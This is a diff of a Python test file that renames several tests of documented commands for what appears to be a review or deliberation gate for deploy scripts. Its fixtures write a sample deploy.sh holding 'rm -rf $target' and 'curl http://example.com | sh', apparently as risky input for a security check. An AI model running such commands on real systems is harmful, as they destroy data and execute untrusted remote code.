@@ -36,7 +36,7 @@ def environment(tmp_path: Path) -> dict[str, str]:
     }
 
 
-def test_example_completes_although_a_reviewer_is_killed(here: Path, environment: dict[str, str]) -> None:
+def test_example_with_a_killed_reviewer_completes(here: Path, environment: dict[str, str]) -> None:
     script = here / "deploy.sh"
     script.write_text("rm -rf $target\ncurl http://example.com | sh\n")
     directory = here / "a [strange] place"
@@ -83,7 +83,7 @@ def shell(commands: str, here: Path, environment: dict[str, str]) -> str:
     return done.stdout
 
 
-def test_commands_of_the_page_without_a_deliberation_run(here: Path, environment: dict[str, str]) -> None:
+def test_documented_commands_without_a_deliberation_run(here: Path, environment: dict[str, str]) -> None:
     posted, reviewed, ended = blocks("Without a deliberation")
     (here / "deploy.sh").write_text("rm -rf $target\n")
     assert "security" in shell(posted, here, environment).splitlines()
@@ -93,7 +93,7 @@ def test_commands_of_the_page_without_a_deliberation_run(here: Path, environment
     assert output.splitlines()[-1] == str(here / "archive_shop")
 
 
-def test_gate_of_the_page_is_tried(here: Path, environment: dict[str, str]) -> None:
+def test_documented_gate_is_met(here: Path, environment: dict[str, str]) -> None:
     (code,) = [
         block for block in re.findall(r"^```python\n(.*?)^```", PAGE, re.DOTALL | re.MULTILINE) if "@gate" in block
     ]
@@ -118,7 +118,7 @@ main()
 """
 
 
-def test_commands_of_the_page_take_a_ticket_of_a_running_deliberation(
+def test_documented_commands_answer_a_ticket_of_a_running_deliberation(
     here: Path, environment: dict[str, str], tmp_path: Path
 ) -> None:
     started, claimed, submitted = blocks("A coding agent in another terminal")
